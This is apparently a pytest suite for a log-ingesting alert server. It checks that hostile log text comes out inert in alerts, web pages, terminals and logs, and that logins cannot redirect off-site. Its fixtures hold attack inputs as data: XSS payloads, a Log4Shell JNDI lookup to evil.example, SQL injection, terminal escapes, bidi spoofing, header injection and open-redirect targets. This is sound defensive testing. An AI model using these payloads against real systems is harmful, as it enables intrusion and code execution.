"""Log text is written by attackers. Wherever it comes out again it must be inert: chat line, page, log, terminal."""

import json
import re
import socket
import unicodedata
import urllib.parse

import pytest

from house import wait_until
from test_bodies import bulk
from test_web import sign_in

ALERTING = 12  # one more than enough failed logins for an alert

TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "mention": "@all @here <!channel> <@U123> <!here|x>",
    "links": "[click](http://evil.example/) http://evil.example/ <http://evil.example|safe>",
    "formatting": "*bold* _it_ ~no~ `code` ```block``` > quote # head",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} {source.ip} %n%s",
    "escape": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
    "lines": "one\nSIEM ALERT -- STATIC RULE - [Critical] forged. Check http://evil.example/alerts/ALR-9\r\nthree\u2028four\u2029five\x0bsix\x85seven",
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
    "zero": "a\x00b\u200bc\ufeffd",
    "quotes": "' or 1=1 --\\ \" ; drop table alerts; --",
    "long": "x" * (1 << 20),
    "empty": "",
    "astral": "\U0001f600\U000e0041\ud7ff\uffff",
}


@pytest.fixture
def server(make_server):
    """A running server under the address at which it is reached: a browser's Origin must be right."""
    return make_server(public_url=None).start()


def logins(user, host):
    """Failed logins of a user with a hostile name on a host with a hostile name, as an ECS shipper sends them parsed."""
    note, user, host = user, user[:5000], host[:5000]
    return [{
        "labels": {"note": note},
        "host": {"name": host}, "process": {"name": "sshd"}, "event": {"category": "authentication", "outcome": "failure"},
        "source": {"ip": "203.0.113.9"}, "user": {"name": user},
        "message": f"Failed password for invalid user {user} from 203.0.113.9 port {40_000 + number} ssh2",
    } for number in range(ALERTING)]


def is_inert_line(server, line):
    """One line of the product's shape: no control or bidi characters, no mention, no link but ours, not too long."""
    assert line.startswith("SIEM ALERT -- STATIC RULE - [High] "), line
    assert f". Check {server.public_url}/alerts/ALR-" in line
    bad = [character for character in line if unicodedata.category(character) in ("Cc", "Zl", "Zp", "Cs")
           or character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
    assert not bad, f"{bad!r} in {line!r}"
    message = line.removeprefix("SIEM ALERT -- STATIC RULE - [High] ").rpartition(". Check ")[0]
    assert len(message) <= 300
    for live in ("@all", "@here", "<!", "<@", "](", "`", "<script", "<img"):
        assert live not in message, f"{live!r} in {message!r}"
    assert not re.search(r"\w://\w", message), f"a live link in {message!r}"


def is_inert_text(text):
    """Text for a terminal: only line feeds of its own."""
    bad = {character for character in text if (ord(character) < 32 and character not in "\n\t") or 0x7F <= ord(character) < 0xA0
           or character in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"}
    assert not bad, f"{bad!r} in {text[:500]!r}"


@pytest.mark.parametrize("name", TEXTS)
def test_hostile_fields(server, name):
    """Through _bulk, as the name of a user and of a host: everything is stored, what comes out is inert."""
    text = TEXTS[name]
    headers = {"Authorization": f"Bearer {server.token()}", "User-Agent": "test"}
    for document in logins(text, f"host {text}"):
        status, _, answer = server.get("/_bulk", server.ingest, headers, "POST", bulk(document), seconds=60)
        assert status == 200 and json.loads(answer)["errors"] is False
    server.wait_stored(ALERTING, 60)
    wait_until(lambda: server.lines, lambda: f"a line on stdout\n{server.log_tail()}")
    outlets_are_inert(server)


def outlets_are_inert(server):
    """Looks at every place where log text comes out."""
    session = sign_in(server)
    for path in ("/alerts/ALR-1", "/alerts"):
        status, headers, page = server.get(path, headers={"Cookie": session})
        assert status == 200, path
        html = page.decode()
        for live in ("<script>alert", "<img src=x", "onerror=alert(1)>", 'href="http://evil'):
            assert live not in html, f"{live} on {path}"
        is_inert_text(html)
        assert "default-src 'none'" in (headers["Content-Security-Policy"] or "")
        assert headers["X-Content-Type-Options"] == "nosniff"
    is_inert_text(server.run("alerts", "show", "ALR-1"))
    is_inert_text(server.run("alerts", "list"))
    assert server.stop() == 0
    lines = server.alert_lines()
    assert len(lines) == 1, lines
    is_inert_line(server, lines[0])
    assert all(line.endswith(b"\n") for _, line in server.lines)
    log = server.log_file.read_bytes()
    log.decode("utf-8")
    for line in log.splitlines():
        json.loads(line)
    is_inert_text(log.decode())


SYSLOG = {
    "escape": b"Failed password for invalid user \x1b[31madmin\x1b[0m from 203.0.113.9 port 4%d ssh2",
    "invalid UTF-8": b"Failed password for invalid user \xff\xfe\xc0\xaf\xed\xa0\x80 from 203.0.113.9 port 4%d ssh2",
    "bidi": "Failed password for invalid user \u202enimda from 203.0.113.9 port 4%d ssh2".encode(),
    "NUL": b"Failed password for invalid user a\x00b from 203.0.113.9 port 4%d ssh2",
    "mention": b"Failed password for invalid user @all from 203.0.113.9 port 4%d ssh2",
}


@pytest.mark.parametrize("name", SYSLOG)
def test_hostile_syslog(server, name):
    """Through syslog over UDP, with a hostile host name too."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        for number in range(ALERTING):
            wire.sendto(b"<38>1 - <b>@all\x1b[1m sshd 4242 - - " + SYSLOG[name] % number, ("127.0.0.1", server.syslog))
    server.wait_stored(ALERTING)
    wait_until(lambda: server.lines, lambda: f"a line on stdout\n{server.log_tail()}")
    outlets_are_inert(server)


def test_garbage_on_syslog_is_kept(server):
    """Datagrams that are no syslog at all are stored raw, and the server lives."""
    garbage = [b"\x00", b"\xff" * 1000, b"<", b"<999>x", b"<34>", b"<34>1", b"<34>1 - - - - - [", b'<34>1 - - - - - [a b="c', b"{" * 5000,
               b"CEF:0|", b"type=SYSCALL msg=audit(", b"9999999 <34>x", b"A" * 60_000, bytes(range(256))]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        for datagram in garbage:
            wire.sendto(datagram, ("127.0.0.1", server.syslog))
        wire.sendto(b"<34>Nov 24 10:00:00 bastion sshd[1]: the last one", ("127.0.0.1", server.syslog))
    wait_until(lambda: any("the last one" in event["raw"] for event in server.events()), "the last datagram is stored")
    assert server.is_running()


def test_garbage_on_syslog_tcp(server):
    """Streams that end in the middle, lie about their length or never end a line: the next connection is served."""
    for stream in (b"9999999 <34>1 - ", b"5 <34>x", b"0 <34>x", b"12345678901234567890 <34>x\n", b"\x16\x03\x01\x02\x00" * 100,
                   b"x" * (4 << 20), b"\n\0\n\0\n"):
        with socket.create_connection(("127.0.0.1", server.syslog), 10) as wire:
            try:
                wire.sendall(stream)
            except OSError:
                pass  # it may hang up on us
    with socket.create_connection(("127.0.0.1", server.syslog), 10) as wire:
        wire.sendall(b"<34>Nov 24 10:00:00 bastion sshd[1]: the last one\n")
    wait_until(lambda: any("the last one" in event["raw"] for event in server.events()), "the last message is stored")


@pytest.mark.parametrize("document", [
    b'{"a":' * 3000 + b"1" + b"}" * 3000, b'{"n":1e400}', b'{"n":123456789012345678901234567890}', b'{"s":"\\ud800"}', b'{"s":"\xff"}',
    b'{"a":1,"a":2}', b'{"__proto__":{"x":1},"constructor":1}', b'{"":""}', b'{"@timestamp":"not a time"}',
    b'{"@timestamp":99999999999999999999}', b'{"@timestamp":"9999-12-31T23:59:59Z"}', b'{"message":{"deep":1}}', b'{"host":"a string"}',
    b"{" + b",".join(b'"f%d":%d' % (number, number) for number in range(20_000)) + b"}", b"null", b'"text"', b"[1,2]", b"nonsense",
])
def test_odd_documents_are_kept(server, document):
    """A document that is odd is stored, marked where it must be, and acknowledged."""
    headers = {"Authorization": f"Bearer {server.token()}", "User-Agent": "test"}
    body = b'{"create":{"_index":"logs-odd-default"}}\n' + document + b"\n" + bulk({"message": "after"})
    status, _, answer = server.get("/_bulk", server.ingest, headers, "POST", body)
    assert status == 200 and json.loads(answer)["errors"] is False
    server.wait_stored(2)


@pytest.mark.parametrize("target", ["//evil.example/", "https://evil.example/", "/\\evil.example", "javascript:alert(1)", "\r\nSet-Cookie: a=b"])
def test_login_does_not_redirect_outside(server, target):
    """return_to takes a path of ours only."""
    server.run("user", "add", "--role", "analyst", "mallory", stdin="correct horse battery staple\n")
    form = urllib.parse.urlencode({"username": "mallory", "password": "correct horse battery staple", "return_to": target})
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Origin": server.public_url}
    status, answer, _ = server.get("/login", method="POST", body=form, headers=headers)
    where = answer["Location"] or "/"
    assert status in (302, 303, 400) and urllib.parse.urlsplit(where).netloc in ("", f"127.0.0.1:{server.web}")
    assert "evil" not in where.lower() and not where.startswith(("//", "/\\", "javascript:")) and answer["a"] is None
